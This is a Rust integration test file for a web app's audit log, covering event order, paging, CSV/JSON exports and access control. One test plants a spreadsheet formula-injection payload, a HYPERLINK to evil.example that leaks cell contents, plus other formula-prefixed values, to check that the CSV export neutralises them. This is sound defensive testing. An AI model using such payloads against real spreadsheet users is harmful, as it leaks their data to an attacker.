//! The audit log: what is recorded, paging, and the exports.

use account_settings::api::tokens::{DeleteToken, SetTokenActive};
use axum::http::{header, Method, StatusCode};

use crate::common::TestApp;

#[tokio::test]
async fn every_action_is_recorded_newest_first() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    let (secret, saved) = app.create_token(&cookie, "ci", "30").await;
    let id = saved["id"].as_i64().unwrap().to_string();
    // API requests are queued and written within milliseconds; account
    // changes are written at once. The log lists them in the order written.
    app.api(Method::GET, "/api/v1/user", &secret, None).await;
    app.state.audit.flush().await;
    app.call::<SetTokenActive>(Some(&cookie), &[("id", &id), ("active", "false")])
        .await;
    app.api(Method::GET, "/api/v1/user", &secret, None).await;
    app.state.audit.flush().await;
    app.call::<SetTokenActive>(Some(&cookie), &[("id", &id), ("active", "true")])
        .await;
    app.call::<DeleteToken>(Some(&cookie), &[("id", &id)]).await;
    app.login("ada", crate::common::PASSWORD).await;
    assert_eq!(
        app.actions(1).await,
        [
            "sign_in",
            "token_deleted",
            "token_activated",
            "token_rejected_deactivated",
            "token_deactivated",
            "api_request",
            "token_created",
            "sign_up"
        ]
    );
}

#[tokio::test]
async fn api_request_event_names_token_method_path_status_ip_agent() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    let (secret, _) = app.create_token(&cookie, "ci", "30").await;
    app.api(Method::GET, "/api/v1/tokens", &secret, None).await;
    let log = app
        .api(
            Method::GET,
            "/api/v1/audit-log?action=api_request",
            &secret,
            None,
        )
        .await;
    assert_eq!(log.status, StatusCode::OK, "{}", log.text());
    let body = log.json();
    let e = &body["events"][0];
    assert_eq!(e["method"], "GET");
    assert_eq!(e["path"], "/api/v1/tokens");
    assert_eq!(e["status"], 200);
    assert_eq!(e["ip"], "127.0.0.1");
    assert_eq!(e["user_agent"], "api-client/1.0");
    let label = e["token"].as_str().unwrap();
    assert!(
        label.starts_with("ci (ast_…")
            && label.ends_with(&format!("{})", &secret[secret.len() - 4..]))
    );
    assert!(!log.text().contains(&secret[4..]));
}

#[tokio::test]
async fn audit_log_pages_by_cursor() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    let (secret, _) = app.create_token(&cookie, "", "30").await;
    for _ in 0..7 {
        app.api(Method::GET, "/api/v1/user", &secret, None).await;
    }
    // sign_up, token_created, 7 requests (the listing calls add more as we go).
    let first = app
        .api(Method::GET, "/api/v1/audit-log?limit=4", &secret, None)
        .await
        .json();
    let ids: Vec<i64> = first["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids.len(), 4);
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first: {ids:?}");
    let cursor = first["next_cursor"].as_str().unwrap();
    let second = app
        .api(
            Method::GET,
            &format!("/api/v1/audit-log?limit=4&cursor={cursor}"),
            &secret,
            None,
        )
        .await
        .json();
    let ids2: Vec<i64> = second["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids2.len(), 4);
    assert!(
        ids2[0] < ids[3],
        "the second page continues where the first ended"
    );
    let bad = app
        .api(Method::GET, "/api/v1/audit-log?limit=0", &secret, None)
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    let bad = app
        .api(Method::GET, "/api/v1/audit-log?cursor=abc", &secret, None)
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
}

#[tokio::test]
async fn csv_and_json_exports_hold_the_filtered_events() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    let (secret, _) = app.create_token(&cookie, "ci", "30").await;
    for _ in 0..3 {
        app.api(Method::GET, "/api/v1/user", &secret, None).await;
    }
    let csv = app
        .get(
            "/settings/audit-log/export.csv?action=api_request",
            Some(&cookie),
        )
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv
        .headers
        .get(header::CONTENT_TYPE)
        .unwrap()
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    assert!(csv
        .headers
        .get(header::CONTENT_DISPOSITION)
        .unwrap()
        .to_str()
        .unwrap()
        .contains("attachment"));
    let text = csv.text();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "id,created_at,action,token,method,host,path,status,ip,user_agent,detail"
    );
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[1..]
        .iter()
        .all(|l| l.contains(",api_request,") && l.contains("/api/v1/user")));

    let json = app
        .get("/settings/audit-log/export.json", Some(&cookie))
        .await;
    assert_eq!(json.status, StatusCode::OK);
    let all = json.json();
    let actions: Vec<&str> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "api_request",
            "api_request",
            "api_request",
            "token_created",
            "sign_up"
        ]
    );
    assert!(!json.text().contains(&secret[4..]));
}

#[tokio::test]
async fn the_csv_export_holds_no_cell_a_spreadsheet_would_run() {
    use account_settings::api::auth::Login;
    use axum::body::Body;
    use axum::http::Request;
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    // A stranger's failed sign-in lands in Ada's log with their user agent;
    // her own token's name and an API client's user agent are text too.
    let trap = r#"=HYPERLINK("https://evil.example/steal?"&B2,"Click")"#;
    let body = crate::common::form(&[("login", "ada"), ("password", "wrong password 123")]);
    let req = Request::post(<Login as leptos::server_fn::ServerFn>::PATH)
        .header(header::HOST, crate::common::HOST)
        .header(header::ORIGIN, crate::common::ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::USER_AGENT, trap)
        .body(Body::from(body))
        .unwrap();
    assert_eq!(app.send(req).await.status, StatusCode::UNPROCESSABLE_ENTITY);
    let (secret, _) = app.create_token(&cookie, "@SUM(1+1)", "30").await;
    let req = Request::get("/api/v1/user")
        .header(header::AUTHORIZATION, format!("Bearer {secret}"))
        .header(header::USER_AGENT, "-2+3")
        .body(Body::empty())
        .unwrap();
    assert_eq!(app.send(req).await.status, StatusCode::OK);

    let csv = app
        .get("/settings/audit-log/export.csv", Some(&cookie))
        .await;
    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4, "{}", csv.text());
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would run as a formula"
        );
    }
    let agents: Vec<&str> = rows.iter().map(|r| &r[9]).collect();
    assert!(agents.contains(&format!("'{trap}").as_str()), "{agents:?}");
    assert!(agents.contains(&"'-2+3"), "{agents:?}");
    assert!(rows.iter().any(|r| r[3].starts_with("'@SUM(1+1)")));
}

#[tokio::test]
async fn export_streams_more_than_one_chunk() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    app.exec(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1200)
         INSERT INTO audit_events (user_id, created_at, action) SELECT 1, 1700000000 + i, 'api_request' FROM n",
    )
    .await;
    let json = app
        .get("/settings/audit-log/export.json", Some(&cookie))
        .await
        .json();
    assert_eq!(json.as_array().unwrap().len(), 1201);
    let csv = app
        .get("/settings/audit-log/export.csv", Some(&cookie))
        .await
        .text();
    assert_eq!(csv.lines().count(), 1202);
}

#[tokio::test]
async fn export_needs_a_session_and_shows_only_own_events() {
    let app = TestApp::new().await;
    let ada = app.signup("ada").await;
    let bob = app.signup("bob").await;
    assert_eq!(
        app.get("/settings/audit-log/export.csv", None).await.status,
        StatusCode::UNAUTHORIZED
    );
    let bob_events = app
        .get("/settings/audit-log/export.json", Some(&bob))
        .await
        .json();
    assert_eq!(bob_events.as_array().unwrap().len(), 1);
    let ada_events = app
        .get("/settings/audit-log/export.json", Some(&ada))
        .await
        .json();
    assert_eq!(ada_events.as_array().unwrap().len(), 1);
    let bad = app
        .get("/settings/audit-log/export.csv?from=yesterday", Some(&ada))
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
}

#[tokio::test]
async fn audit_page_server_function_filters_by_action_and_dates() {
    let app = TestApp::new().await;
    let cookie = app.signup("ada").await;
    app.create_token(&cookie, "", "30").await;
    let page = app
        .call::<account_settings::api::audit::GetAuditPage>(
            Some(&cookie),
            &[("query[action]", "token_created")],
        )
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    let events = page.json()["events"].as_array().unwrap().clone();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["action"], "token_created");
    let none = app
        .call::<account_settings::api::audit::GetAuditPage>(
            Some(&cookie),
            &[("query[to]", "2001-01-01")],
        )
        .await;
    assert_eq!(none.json()["events"].as_array().unwrap().len(), 0);
}
